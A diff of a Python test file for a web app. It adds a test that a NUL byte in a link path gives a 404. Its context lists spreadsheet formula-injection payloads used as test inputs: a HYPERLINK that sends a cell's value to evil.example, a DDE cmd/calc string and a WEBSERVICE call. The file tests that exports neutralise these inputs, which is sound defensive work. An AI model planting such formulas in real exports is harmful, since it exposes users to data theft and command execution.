@@ -93,6 +93,11 @@ def test_a_deputys_message_search_for_a_control_character_is_a_search_not_mainte
     assert page.status_code == 200 and "幸福小区门口的路灯坏了" in page.get_data(as_text=True)
 
 
+def test_a_link_holding_a_nul_is_a_link_that_does_not_exist_not_maintenance(app):
+    client = app.test_client()
+    assert client.get("/c/%00").status_code == client.get("/c/no-such-link").status_code == 404
+
+
 # --- 2. nothing from outside becomes a formula in the .xlsx export ---------------------------------
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&K2,"点击查看")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example")',
             "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
